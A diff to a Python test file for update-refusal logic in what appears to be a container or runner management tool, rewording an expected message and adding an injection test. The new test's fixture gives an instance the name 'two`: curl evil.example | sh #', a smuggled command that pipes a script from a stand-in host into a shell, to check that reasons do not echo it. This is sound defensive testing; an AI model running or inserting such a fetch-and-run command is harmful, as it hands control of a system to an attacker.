@@ -49,7 +49,7 @@ pytestmark = pytest.mark.feature("V2.by-hand", "V3.self")
             RUNNER,
             [ONE, replace(TWO, is_self_updating=False)],
             RELEASE,
-            "of its instance `two`: it does not update itself",
+            "its instance `two` has to be updated by hand, because it does not update itself",
         ),
         (RUNNER, [OFFLINE], RELEASE, "it is offline since 2026-03-04 11:58 UTC: start it again"),
         (RUNNER, [replace(OFFLINE, is_self_updating=False)], RELEASE, "UTC, and it does not update itself"),
@@ -70,6 +70,13 @@ def test_an_update_is_refused_with_the_reason(
     found = decide.refusal(runner, instances, release, OLD)
     assert words in found
     assert bool(words) == bool(found)
+
+
+def test_the_name_of_an_instance_cannot_be_taken_for_a_command() -> None:
+    hostile = replace(TWO, name="two`: curl evil.example | sh #", is_self_updating=False)
+    found = decide.by_hand(RUNNER, [ONE, hostile], RELEASE)
+    assert found is not None
+    assert found.reason.startswith("one of its instances has to be updated by hand, because")
 
 
 def test_the_image_of_the_release_is_what_a_container_is_updated_to() -> None:
